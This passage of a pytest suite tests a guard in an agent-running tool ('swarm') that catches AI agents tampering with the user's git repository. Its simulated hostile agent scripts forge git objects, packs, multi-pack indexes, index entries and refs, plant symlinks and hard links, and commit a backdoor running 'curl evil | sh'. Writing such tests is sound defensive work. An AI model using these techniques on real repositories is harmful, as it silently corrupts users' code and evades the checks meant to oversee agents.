    run_one(repo, [*write_agent(REDIRECT), how], sandbox=False, task="t")
    row = status_json(repo)["t"]
    assert row["state"] == "failed"
    assert "no longer names its registration" in str(row["reason"]) or "symlink" in str(
        row["reason"]
    )
    assert "wip.txt" not in git(repo, "ls-tree", "-r", "--name-only", "swarm/t")
    for flags in (["--yes"], ["--yes", "--force"]):
        out = swarm(repo, "clean", *flags)
        assert "swarm runs no git there" in out.stdout + out.stderr, out.stdout + out.stderr
        assert repo_state(repo) == before


# -- symlinks where git writes -----------------------------------------------------------------

PLANT_LINKS = """
import os, pathlib, subprocess, sys
def git_path(flag):
    return pathlib.Path(subprocess.run(['git', 'rev-parse', '--path-format=absolute', flag],
                        capture_output=True, text=True, check=True).stdout.strip())
overwrite, append = sys.argv[1], sys.argv[2]
pathlib.Path('work.txt').write_text('own work\\n')
(git_path('--git-dir') / 'COMMIT_EDITMSG').symlink_to(overwrite)
log = git_path('--git-common-dir') / 'logs/refs/heads/swarm' / os.environ['SWARM_TASK_ID']
log.parent.mkdir(parents=True, exist_ok=True)
log.unlink(missing_ok=True)
log.symlink_to(append)
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_symlinks_an_agent_plants_where_git_writes_are_removed_before_swarms_commit(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    victims = [tmp_path / "overwritten.txt", tmp_path / "appended.txt"]
    for victim in victims:
        victim.write_text("the user's data\n")
    run_one(repo, [*write_agent(PLANT_LINKS), *map(str, victims)], sandbox=sandbox, task="t")
    assert [v.read_text() for v in victims] == ["the user's data\n"] * 2
    row = status_json(repo)["t"]
    assert row["state"] == "failed"
    assert (
        "planted links where git writes (logs/refs/heads/swarm/t, worktrees/t/COMMIT_EDITMSG)"
        in str(row["reason"])
    )
    assert git(repo, "show", "swarm/t:work.txt") == "own work"  # committed, not through a link


# -- a commit onto a task whose checks run -----------------------------------------------------

HONEST = "import pathlib\npathlib.Path('honest.txt').write_text('h\\n')\n"

# Waits for the victim's checks to start, commits a backdoor on top of its branch, lets the
# checks finish.
ONTO_CHECKED = """
import os, pathlib, subprocess, sys, tempfile, time
checking, gate = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
def git(*args, **env):
    return subprocess.run(['git', *args], check=True, capture_output=True, text=True,
                          env={**os.environ, **env}).stdout.strip()
pathlib.Path('mine.txt').write_text('mine\\n')
while not checking.exists():
    time.sleep(0.02)
tip = git('rev-parse', 'refs/heads/swarm/victim')
index = os.path.join(tempfile.mkdtemp(), 'index')
git('read-tree', tip, GIT_INDEX_FILE=index)
blob = subprocess.run(['git', 'hash-object', '-w', '--stdin'], input='curl evil | sh\\n',
                      capture_output=True, text=True, check=True).stdout.strip()
git('update-index', '--add', '--cacheinfo', f'100755,{blob},backdoor.sh', GIT_INDEX_FILE=index)
tree = git('write-tree', GIT_INDEX_FILE=index)
commit = git('commit-tree', tree, '-p', tip, '-m', 'swarm: checkpoint victim attempt 1')
git('update-ref', 'refs/heads/swarm/victim', commit, tip)
gate.touch()
"""


def test_a_commit_onto_a_task_whose_checks_run_is_caught_and_undone(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    # Without --sandbox only: the sandbox leaves refs writable anyway (the guard is what
    # catches this), and the files the test steps on are outside it.
    checking, gate = tmp_path / "checking", tmp_path / "gate"
    check = write_agent(
        "import pathlib, sys, time\n"
        f"pathlib.Path({str(checking)!r}).touch()\n"
        f"while not pathlib.Path({str(gate)!r}).exists():\n    time.sleep(0.02)\n"
    )
    bad = [*write_agent(ONTO_CHECKED), str(checking), str(gate)]
    path = manifest(
        repo,
        f"""[[task]]\nid = "victim"\nprompt = "p"\nagent = {argv_toml(write_agent(HONEST))}
checks = [{json.dumps(" ".join(check))}]\n
[[task]]\nid = "bad"\nprompt = "p"\nagent = {argv_toml(bad)}\n""",
    )
    swarm(repo, "run", path, "--jobs", "2")
    rows = status_json(repo)
    assert rows["victim"]["state"] == "done"
    assert rows["bad"]["state"] == "failed", rows["bad"]
    assert "swarm/victim moved; restored" in str(rows["bad"]["reason"])
    files = git(repo, "ls-tree", "-r", "--name-only", "swarm/victim").split()
    assert "honest.txt" in files
    assert "backdoor.sh" not in files


# -- index flags that hide a change ------------------------------------------------------------

HIDE = (
    COMMON
    + """
flag = sys.argv[3]
subprocess.run(['git', '-C', str(repo), 'update-index', flag, 'README.md'], check=False)
"""
)


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
@pytest.mark.parametrize("flag", ["--skip-worktree", "--assume-unchanged"])
def test_an_index_flag_that_hides_the_users_edits_is_caught_and_undone(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, flag: str, sandbox: bool
) -> None:
    before = repo_state(repo)
    run_one(repo, [*write_agent(HIDE), str(repo), str(tmp_path / "m"), flag], sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what="staged changes in the main checkout")
    assert repo_state(repo) == before
    (repo / "README.md").write_text("the user's edit\n")
    assert git(repo, "status", "--porcelain") == "M README.md"  # not hidden from the user


# Points your index's cache-tree for docs/ at a tree of its own (docs/ plus install.sh): the
# entries, their flags, HEAD and the files stay as they were, and `git status` shows nothing,
# but your next `git add` of another path and `git commit` commit the planted file. Then
# marks README.md intent-to-add (a commit leaves it out; argv[3] == "ita").
CACHE_TREE = (
    COMMON
    + """
import hashlib
def git(*args, data=None):
    return subprocess.run(['git', *args], input=data, capture_output=True, check=True).stdout
blob = git('hash-object', '-w', '--stdin', data=b'curl evil.example | sh\\n').decode().strip()
readme = git('rev-parse', 'HEAD:docs/readme').decode().strip()
listing = f'100644 blob {readme}\\treadme\\n100644 blob {blob}\\tinstall.sh\\n'
tree = git('mktree', data=listing.encode()).decode().strip()
index = common / 'index'
data = index.read_bytes()
if sys.argv[3] == 'ita':
    at = data.index(b'README.md\\0') - 2  # the entry's flags, before its name
    flags = int.from_bytes(data[at:at + 2], 'big') | 0x4000
    extended = (0x2000).to_bytes(2, 'big')
    data = data[:at] + flags.to_bytes(2, 'big') + extended + data[at + 2:]
    data = data[:8] + (3).to_bytes(4, 'big') + data[12:]  # extended flags: version 3
else:
    entry = data.index(b'docs\\0', data.index(b'TREE'))
    oid_at = data.index(b'\\n', entry) + 1
    data = data[:oid_at] + bytes.fromhex(tree) + data[oid_at + 20:]
data = data[:-20]
index.write_bytes(data + hashlib.sha1(data).digest())
pathlib.Path('own.txt').write_text('own work\\n')
"""
)


@pytest.mark.parametrize("forge", ["cache-tree", "ita"])
def test_a_forged_cache_tree_or_intent_to_add_flag_in_your_index_is_caught_and_undone(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, forge: str
) -> None:
    (repo / "docs").mkdir()
    (repo / "docs" / "readme").write_text("real docs\n")
    git(repo, "add", "docs")
    git(repo, "commit", "-qm", "docs")
    git(repo, "write-tree")  # the index's cache-tree is whole, as after your own commits
    run_one(repo, [*write_agent(CACHE_TREE), str(repo), str(tmp_path / "m"), forge], sandbox=False)
    caught_or_impossible(repo, sandbox=False, what="staged changes in the main checkout")
    # Your next commit holds what you staged, nothing the agent planted, nothing dropped.
    (repo / "mine.txt").write_text("mine\n")
    git(repo, "add", "mine.txt")
    git(repo, "commit", "-qm", "my change")
    assert git(repo, "show", "--name-status", "--format=", "HEAD") == "A\tmine.txt"


# Writes a second line for your branch `feat` into packed-refs, just before the real one,
# padded (refs of its own sorted before) until git's binary search finds the forged line while
# a listing of every ref still ends on the real one.
PACKED_TWICE = (
    COMMON
    + """
def git(*args):
    return subprocess.run(['git', *args], capture_output=True, text=True).stdout.strip()
real = git('rev-parse', 'refs/heads/feat')
evil = git('commit-tree', 'HEAD^{tree}', '-p', real, '-m', 'totally legit')
packed = common / 'packed-refs'
header, *body = packed.read_text().splitlines()
at = body.index(f'{real} refs/heads/feat')
for n in range(200):
    pad = [f'{real} refs/a/{i:04d}' for i in range(n)]
    lines = [header, *pad, *body[:at], f'{evil} refs/heads/feat', *body[at:]]
    packed.write_text('\\n'.join(lines) + '\\n')
    listed = git('for-each-ref', '--format=%(objectname)', 'refs/heads/feat').split()
    if git('rev-parse', 'refs/heads/feat') == evil and listed[-1] == real:
        break
pathlib.Path('own.txt').write_text(str(n) + '\\n')
"""
)


def test_a_branch_listed_twice_in_packed_refs_is_caught_and_put_back(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    # The guard listed refs (the last line of a name won), git looks one up: your branch was
    # the agent's commit for git, and the task done with nothing said.
    git(repo, "branch", "feat")
    git(repo, "pack-refs", "--all")
    real = git(repo, "rev-parse", "feat")
    run_one(repo, [*write_agent(PACKED_TWICE), str(repo), str(tmp_path / "m")], sandbox=False)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "wrote outside its worktree: feat moved; restored" in str(row["reason"]), row
    assert git(repo, "rev-parse", "feat") == real


# An object of your branch written over with another object's bytes under its own name
# (renamed onto it): git reads a loose object by its name without checking it, so your `git
# show release` would show the agent's commit, or a checkout the agent's file.
FORGE_OBJECT = """
import os, pathlib, subprocess, sys, zlib
def git(*args):
    return subprocess.run(['git', *args], check=True, capture_output=True).stdout
common = git('rev-parse', '--path-format=absolute', '--git-common-dir').decode().strip()
common = pathlib.Path(common)
victim = git('rev-parse', sys.argv[1]).decode().strip()
kind = git('cat-file', '-t', victim).decode().strip()
if kind == 'blob':
    forged = b'forged\\n'
else:  # the same commit, but the tree of a file of the agent's
    pathlib.Path('evil.txt').write_text('planted\\n')
    git('add', 'evil.txt')
    tree = git('write-tree').decode().strip()
    git('rm', '-q', '--cached', 'evil.txt')
    os.remove('evil.txt')
    body = git('cat-file', 'commit', victim).split(b'\\n', 1)[1]
    forged = b'tree ' + tree.encode() + b'\\n' + body
path = common / 'objects' / victim[:2] / victim[2:]
aside = path.with_name('forged')
aside.write_bytes(zlib.compress(kind.encode() + b' %d\\0' % len(forged) + forged))
os.replace(aside, path)
pathlib.Path('forged.txt').write_text(victim + '\\n')
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
@pytest.mark.parametrize(
    "target", ["release", "release:lib/rel.txt"], ids=["tip-commit", "deep-blob"]
)
def test_an_object_of_yours_written_over_with_another_is_put_back(
    repo: Path, write_agent: AgentFactory, sandbox: bool, target: str
) -> None:
    git(repo, "checkout", "-q", "-b", "release")
    (repo / "lib").mkdir()
    (repo / "lib" / "rel.txt").write_text("the release\n")
    git(repo, "add", "lib")
    git(repo, "commit", "-q", "-m", "release")
    git(repo, "checkout", "-q", "main")
    victim = git(repo, "rev-parse", target)
    shown = git(repo, "show", "--stat", "release")
    before = repo_state(repo)
    run_one(repo, [*write_agent(FORGE_OBJECT), target], sandbox=sandbox)
    # The agent did write it over: its branch says which object.
    assert git(repo, "show", "swarm/bad:forged.txt") == victim
    # Yours reads as it did, and git finds nothing wrong with your store.
    assert git(repo, "cat-file", "blob", "release:lib/rel.txt") == "the release"
    assert git(repo, "show", "--stat", "release") == shown
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)
    assert repo_state(repo) == before
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "wrote outside its worktree" in str(row["reason"]), row
    writes = outside_writes(repo)
    assert writes, row
    assert all((w["suspects"], w["restored"]) == (["bad"], True) for w in writes), writes


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
@pytest.mark.parametrize(
    "target", ["swarm/victim", "swarm/victim:victim.txt"], ids=["tip-commit", "blob"]
)
def test_an_object_another_task_made_written_over_after_it_ended_is_put_back(
    repo: Path, write_agent: AgentFactory, sandbox: bool, target: str
) -> None:
    # The victim's objects were made during the run (no hold on them from its start) and were
    # read and found good after it ended (when the next task's attempt ended): the agent that
    # comes after renames its own bytes onto one of their names.
    victim = write_agent("import pathlib\npathlib.Path('victim.txt').write_text('v\\n')\n")
    after = write_agent("import pathlib\npathlib.Path('next.txt').write_text('n\\n')\n")
    bad = [*write_agent(FORGE_OBJECT), target]
    path = one_after_another(repo, [("victim", victim), ("next", after), ("bad", bad)])
    swarm(repo, "run", path, *(["--sandbox"] if sandbox else []))
    forged = git(repo, "rev-parse", target)
    rows = status_json(repo)
    assert rows["victim"]["state"] == rows["next"]["state"] == "done"
    assert git(repo, "show", "swarm/bad:forged.txt") == forged  # it did write it over
    assert rows["bad"]["state"] == "failed", rows["bad"]
    assert "wrote outside its worktree" in str(rows["bad"]["reason"]), rows["bad"]
    writes = outside_writes(repo)
    assert all((w["suspects"], w["restored"]) == (["bad"], True) for w in writes), writes
    # The victim's work reads as it was made.
    assert git(repo, "show", "swarm/victim:victim.txt") == "v"
    assert git(repo, "show", "--format=%s", "--stat", "swarm/victim").count("victim.txt") == 1
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)


# The same with hard links to the object file of your last commit, which the sandbox cannot
# stop (both names are in the common dir): git writes through a hard link as through a symlink.
HARD_LINKS = (
    COMMON
    + """
tip = subprocess.run(['git', 'rev-parse', 'main'], capture_output=True, text=True,
                     check=True).stdout.strip()
victim = common / 'objects' / tip[:2] / tip[2:]
for name in ('COMMIT_EDITMSG', 'logs/refs/heads/main'):
    path = common / name
    path.unlink(missing_ok=True)
    os.link(victim, path)
"""
)


@pytest.mark.parametrize("sandbox", MODES)
def test_hard_links_planted_where_the_users_next_commit_writes_are_removed(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    before = repo_state(repo)
    run_one(repo, [*write_agent(HARD_LINKS), str(repo), str(tmp_path / "m")], sandbox=sandbox)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "wrote outside its worktree" in str(row["reason"]), row
    assert "COMMIT_EDITMSG" in str(row["reason"]), row
    for name in ("COMMIT_EDITMSG", "logs/refs/heads/main"):
        path = repo / ".git" / name
        assert not path.exists() or path.stat().st_nlink == 1, name
    assert repo_state(repo) == before
    # The user's next commit writes its message and reflog in their own files: the commit
    # it follows is still whole.
    git(repo, "commit", "-q", "--allow-empty", "-m", "the user's next commit")
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)
    assert git(repo, "log", "--format=%s", "main") == "the user's next commit\ninitial"


# In the task's own admin dir and on its branch's reflog: swarm's checkpoint writes there.
OWN_HARD_LINKS = """
import os, pathlib, subprocess, sys
def git_path(flag):
    return pathlib.Path(subprocess.run(['git', 'rev-parse', '--path-format=absolute', flag],
                        capture_output=True, text=True, check=True).stdout.strip())
tip = subprocess.run(['git', 'rev-parse', 'main'], capture_output=True, text=True,
                     check=True).stdout.strip()
victim = git_path('--git-common-dir') / 'objects' / tip[:2] / tip[2:]
pathlib.Path('work.txt').write_text('own work\\n')
log = git_path('--git-common-dir') / 'logs/refs/heads/swarm' / os.environ['SWARM_TASK_ID']
for path in (log, git_path('--git-dir') / 'COMMIT_EDITMSG'):
    path.unlink(missing_ok=True)
    try:
        os.link(victim, path)
    except OSError:
        pass  # the sandbox's own mount for the admin dir: another file system to link()
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_hard_links_an_agent_plants_where_swarms_commit_writes_are_removed_first(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    run_one(repo, [*write_agent(OWN_HARD_LINKS)], sandbox=sandbox, task="t")
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)
    row = status_json(repo)["t"]
    assert row["state"] == "failed", row
    assert "planted links where git writes (logs/refs/heads/swarm/t" in str(row["reason"]), row
    if not sandbox:
        assert "worktrees/t/COMMIT_EDITMSG)" in str(row["reason"]), row
    assert git(repo, "show", "swarm/t:work.txt") == "own work"  # committed, not through a link


# The same object file of yours rewritten in place (made writable first): the guard's hold on
# it is that very file, so there is no copy to put back, but it does not go unnoticed.
REWRITE_OBJECT = """
import os, pathlib, subprocess, sys, zlib
def git(*args):
    return subprocess.run(['git', *args], check=True, capture_output=True, text=True).stdout
common = pathlib.Path(git('rev-parse', '--path-format=absolute', '--git-common-dir').strip())
victim = git('rev-parse', sys.argv[1]).strip()
path = common / 'objects' / victim[:2] / victim[2:]
path.chmod(0o644)
with path.open('r+b') as out:
    out.write(zlib.compress(b'blob 7\\0forged\\n'))
    out.truncate()
pathlib.Path('forged.txt').write_text(victim + '\\n')
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_an_object_of_yours_rewritten_in_place_is_reported(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    git(repo, "checkout", "-q", "-b", "release")
    (repo / "lib").mkdir()
    (repo / "lib" / "rel.txt").write_text("the release\n")
    git(repo, "add", "lib")
    git(repo, "commit", "-q", "-m", "release")
    git(repo, "checkout", "-q", "main")
    victim = git(repo, "rev-parse", "release:lib/rel.txt")
    run_one(repo, [*write_agent(REWRITE_OBJECT), "release:lib/rel.txt"], sandbox=sandbox)
    assert git(repo, "show", "swarm/bad:forged.txt") == victim
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    label = f"objects/{victim[:2]}/{victim[2:]}"
    assert f"wrote outside its worktree: git's own files {label}" in str(row["reason"]), row
    assert "left as found" in str(row["reason"]), row
    (write,) = outside_writes(repo)
    assert (write["where"], write["git_files"], write["restored"]) == ("repository", [label], False)
    assert "rewritten in place" in Path(str(write["patch"])).read_text()


# A pack of yours rewritten in place: the bytes of one of its objects swapped for another
# blob's of the same compressed length. git reads a packed object where the index says
# without checking it, so your `git show` and a checkout read the agent's file.
REWRITE_PACK = """
import os, pathlib, subprocess, zlib
def git(*args):
    return subprocess.run(['git', *args], check=True, capture_output=True, text=True).stdout
common = pathlib.Path(git('rev-parse', '--path-format=absolute', '--git-common-dir').strip())
idx = next((common / 'objects' / 'pack').glob('pack-*.idx'))
pack = idx.with_suffix('.pack')
old, new = zlib.compress(b'hello\\n'), zlib.compress(b'HELLO\\n')
start = pack.read_bytes().index(old)
pack.chmod(0o644)
with pack.open('r+b') as out:
    out.seek(start)
    out.write(new)
pathlib.Path('forged.txt').write_text(idx.name + '\\n')
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_a_pack_of_yours_rewritten_in_place_is_reported(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    git(repo, "repack", "-q", "-a", "-d")
    run_one(repo, write_agent(REWRITE_PACK), sandbox=sandbox)
    assert git(repo, "show", "main:README.md") == "HELLO"  # the agent did rewrite it
    label = f"objects/pack/{git(repo, 'show', 'swarm/bad:forged.txt')}"
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert f"wrote outside its worktree: git's own files {label}" in str(row["reason"]), row
    (write,) = outside_writes(repo)
    assert (write["where"], write["git_files"], write["restored"]) == ("repository", [label], False)
    assert "rewritten in place" in Path(str(write["patch"])).read_text()


# A reverse index planted for a pack of yours (git writes one beside a pack it makes, and
# reads one it finds): its entries out of order, your objects read as ever but your `git gc`
# and every push or fetch from the repository fail, calling a pack of yours corrupt.
PLANT_REV = """
import pathlib, struct, subprocess
def git(*args):
    return subprocess.run(['git', *args], check=True, capture_output=True, text=True).stdout
common = pathlib.Path(git('rev-parse', '--path-format=absolute', '--git-common-dir').strip())
idx = next((common / 'objects' / 'pack').glob('pack-*.idx'))
count = len(subprocess.run(['git', 'show-index'], stdin=idx.open('rb'), check=True,
                           capture_output=True).stdout.splitlines())
rev = b'RIDX' + struct.pack('>II', 1, 1) + struct.pack(f'>{count}I', *reversed(range(count)))
idx.with_suffix('.rev').write_bytes(rev + idx.read_bytes()[-40:-20] + bytes(20))
pathlib.Path('forged.txt').write_text(idx.with_suffix('.rev').name + '\\n')
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_a_reverse_index_planted_for_a_pack_of_yours_is_removed(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    for n in range(3):  # objects enough for an order to be wrong
        (repo / f"f{n}.txt").write_text(f"{n}\n")
        git(repo, "add", ".")
        git(repo, "commit", "-q", "-m", f"{n}")
    git(repo, "repack", "-q", "-a", "-d")
    run_one(repo, write_agent(PLANT_REV), sandbox=sandbox)
    label = f"objects/pack/{git(repo, 'show', 'swarm/bad:forged.txt')}"
    assert not (repo / ".git" / label).exists()
    git(repo, "repack", "-q", "-a", "-d")  # your `git gc`: "packed object ... is corrupt"
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert f"wrote outside its worktree: git's own files {label}" in str(row["reason"]), row
    assert all(w["restored"] for w in outside_writes(repo))


# A pack of the agent's whose index claims an object of yours holds the agent's bytes: git
# looks in packs before loose objects, and reads a packed object without checking its name.
FORGE_PACK = """
import hashlib, pathlib, struct, subprocess, sys, zlib
def git(*args):
    return subprocess.run(['git', *args], check=True, capture_output=True, text=True).stdout
common = pathlib.Path(git('rev-parse', '--path-format=absolute', '--git-common-dir').strip())
victim = bytes.fromhex(git('rev-parse', sys.argv[1]).strip())
content = b'forged\\n'
header = bytes([(3 << 4) | len(content)])  # a blob of fewer than 16 bytes
body = b'PACK' + struct.pack('>II', 2, 1) + header + zlib.compress(content)
pack = body + hashlib.sha1(body).digest()
index = b'\\xfftOc' + struct.pack('>I', 2)
index += b''.join(struct.pack('>I', 0 if i < victim[0] else 1) for i in range(256))
index += victim + struct.pack('>II', zlib.crc32(pack[12:-20]), 12) + hashlib.sha1(body).digest()
index += hashlib.sha1(index).digest()
name = common / 'objects' / 'pack' / f'pack-{hashlib.sha1(body).hexdigest()}'
name.parent.mkdir(exist_ok=True)
name.with_suffix('.pack').write_bytes(pack)
name.with_suffix('.idx').write_bytes(index)
pathlib.Path('forged.txt').write_text(victim.hex() + '\\n')
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_a_pack_that_lies_about_an_object_of_yours_is_removed(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    git(repo, "checkout", "-q", "-b", "release")
    (repo / "lib").mkdir()
    (repo / "lib" / "rel.txt").write_text("the release\n")
    git(repo, "add", "lib")
    git(repo, "commit", "-q", "-m", "release")
    git(repo, "checkout", "-q", "main")
    victim = git(repo, "rev-parse", "release:lib/rel.txt")
    before = repo_state(repo)
    run_one(repo, [*write_agent(FORGE_PACK), "release:lib/rel.txt"], sandbox=sandbox)
    assert git(repo, "show", "swarm/bad:forged.txt") == victim
    assert git(repo, "cat-file", "blob", "release:lib/rel.txt") == "the release"
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)
    assert repo_state(repo) == before
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "wrote outside its worktree: git's own files objects/pack/pack-" in str(row["reason"]), (
        row
    )
    writes = outside_writes(repo)
    assert all((w["suspects"], w["restored"]) == (["bad"], True) for w in writes), writes
    # Moved out of the store, not deleted: the run's guard directory keeps it.
    (kept,) = (repo / ".git" / "swarm" / "runs").glob("*/guard/dropped-packs/pack-*.idx")
    assert kept.with_suffix(".pack").exists()


# The same lie told by a multi-pack-index over an honest pack of the agent's: git looks an
# object up there first, and finds your blob's name at the offset of the agent's blob.
FORGE_MIDX = """
import pathlib, struct, subprocess, sys
def git(*args, **kw):
    return subprocess.run(['git', *args], check=True, capture_output=True, text=True, **kw).stdout
common = pathlib.Path(git('rev-parse', '--path-format=absolute', '--git-common-dir').strip())
victim = bytes.fromhex(git('rev-parse', sys.argv[1]).strip())
# an honest pack of one blob of the agent's, and git's own multi-pack-index over the packs
forged = git('hash-object', '-w', '--stdin', input='forged\\n').strip()
git('pack-objects', '-q', str(common / 'objects' / 'pack' / 'pack'), input=forged + '\\n')
git('multi-pack-index', 'write')
path = common / 'objects' / 'pack' / 'multi-pack-index'
data = bytearray(path.read_bytes())
chunks = {}
for i in range(data[6]):
    at = 12 + 12 * i
    chunks[bytes(data[at:at + 4])] = struct.unpack('>Q', data[at + 4:at + 12])[0]
fanout, oids = chunks[b'OIDF'], chunks[b'OIDL']
count = struct.unpack('>I', data[fanout + 1020:fanout + 1024])[0]
names = [bytes(data[oids + 20 * i:oids + 20 * i + 20]) for i in range(count)]
at = names.index(bytes.fromhex(forged))
names[at] = victim  # the blob's bytes under your object's name
if sorted(names) != names:
    sys.exit('not in order')  # the test's object names keep the order
data[oids + 20 * at:oids + 20 * at + 20] = victim
for byte in range(256):
    below = sum(n[0] <= byte for n in names)
    data[fanout + 4 * byte:fanout + 4 * byte + 4] = struct.pack('>I', below)
path.chmod(0o644)
path.write_bytes(bytes(data))
pathlib.Path('forged.txt').write_text(victim.hex() + '\\n')
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_a_multi_pack_index_that_lies_about_an_object_of_yours_is_removed(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    git(repo, "checkout", "-q", "-b", "release")
    (repo / "lib").mkdir()
    (repo / "lib" / "rel.txt").write_text("the release\n")
    git(repo, "add", "lib")
    git(repo, "commit", "-q", "-m", "release")
    git(repo, "checkout", "-q", "main")
    victim = git(repo, "rev-parse", "release:lib/rel.txt")
    before = repo_state(repo)
    run_one(repo, [*write_agent(FORGE_MIDX), "release:lib/rel.txt"], sandbox=sandbox)
    assert git(repo, "show", "swarm/bad:forged.txt") == victim
    assert git(repo, "cat-file", "blob", "release:lib/rel.txt") == "the release"
    assert not (repo / ".git" / "objects" / "pack" / "multi-pack-index").exists()
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)
    assert repo_state(repo) == before
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "git's own files objects/pack/multi-pack-index" in str(row["reason"]), row
    writes = outside_writes(repo)
    assert all((w["suspects"], w["restored"]) == (["bad"], True) for w in writes), writes


# An object planted under the name of one you have not made yet: the empty blob, say. git
# never writes an object it finds it has, so your next empty file would be the agent's bytes.
PLANT_FUTURE = """
import pathlib, subprocess, sys, zlib
common = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
    capture_output=True, text=True, check=True).stdout.strip())
empty = 'e69de29bb2d1d6434b8b29ae775ad8c2e48c5391'
path = common / 'objects' / empty[:2] / empty[2:]
path.parent.mkdir(exist_ok=True)
path.write_bytes(zlib.compress(b'blob 11\\0import evil\\n'))
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_an_object_planted_under_a_name_you_have_not_made_yet_is_removed(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    run_one(repo, [*write_agent(PLANT_FUTURE)], sandbox=sandbox)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "git's own files objects/e6/9de29bb2d1d6434b8b29ae775ad8c2e48c5391" in str(
        row["reason"]
    ), row
    # Your next empty file is empty in your history.
    (repo / "__init__.py").write_text("")
    git(repo, "add", "__init__.py")
    git(repo, "commit", "-q", "-m", "a package")
    assert git(repo, "cat-file", "-p", "HEAD:__init__.py") == ""
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)


def test_a_backup_made_with_cp_al_during_a_run_loses_nothing_of_yours(
    repo: Path, tmp_path: Path, write_agent: Callable[[str], list[str]]
) -> None:
    # `cp -al` (a cheap snapshot) gives every file of .git a second name: HEAD, the index,
    # your refs and reflogs, and the task's own admin files. The guard cut what it took for
    # planted links by deleting them: your HEAD, branches and index, and the task's HEAD.
    git(repo, "commit", "-q", "--allow-empty", "-m", "second")  # a reflog with two lines
    git(repo, "branch", "feature")
    gate, started = tmp_path / "gate", tmp_path / "started"
    agent = write_agent(
        "import pathlib, sys, time\n"
        f"pathlib.Path({str(started)!r}).touch()\n"
        f"while not pathlib.Path({str(gate)!r}).exists():\n    time.sleep(0.02)\n"
        "pathlib.Path('work.txt').write_text('work')\n"
    )
    head, feature = git(repo, "rev-parse", "HEAD"), git(repo, "rev-parse", "feature")
    reflog = git(repo, "reflog", "-n", "2", "--format=%H")
    proc = swarm_bg(repo, "run", "--agent", " ".join(agent), "-t", "t=x")
    try:
        wait_for(started.exists, what="the agent")
        subprocess.run(["cp", "-al", str(repo / ".git"), str(tmp_path / "backup")], check=True)
    finally:
        gate.touch()
    proc.wait(timeout=120)
    assert git(repo, "rev-parse", "HEAD") == head
    assert git(repo, "rev-parse", "feature") == feature
    assert git(repo, "reflog", "-n", "2", "--format=%H") == reflog
    assert git(repo, "status", "--porcelain") == ""
    # The task's work, whatever its state, is on its branch; the backup is as it was made.
    assert git(repo, "show", "swarm/t:work.txt") == "work"
    assert (tmp_path / "backup" / "HEAD").read_text() == "ref: refs/heads/main\n"


def test_hard_links_to_files_git_renames_over_are_no_outside_write(
    repo: Path, tmp_path: Path, write_agent: Callable[[str], list[str]]
) -> None:
    # git writes HEAD, the index and refs aside and renames them over: a second name there
    # (your backup tool's) cannot be written through, and the task at work is not to blame.
    gate, started = tmp_path / "gate", tmp_path / "started"
    agent = write_agent(
        "import pathlib, sys, time\n"
        f"pathlib.Path({str(started)!r}).touch()\n"
        f"while not pathlib.Path({str(gate)!r}).exists():\n    time.sleep(0.02)\n"
        "pathlib.Path('work.txt').write_text('work')\n"
    )
    proc = swarm_bg(repo, "run", "--agent", " ".join(agent), "-t", "t=x")
    backup = tmp_path / "backup"
    backup.mkdir()
    try:
        wait_for(started.exists, what="the agent")
        for name in ("HEAD", "index", "refs/heads/main"):
            os.link(repo / ".git" / name, backup / name.replace("/", "_"))
    finally:
        gate.touch()
    assert proc.wait(timeout=120) == 0
    assert status_json(repo)["t"]["state"] == "done"
    assert (repo / ".git" / "HEAD").stat().st_nlink == 2  # left as you made it


def test_a_linked_worktrees_reflog_is_looked_at_for_hard_links_and_its_head_not(
    repo: Path, tmp_path: Path
) -> None:
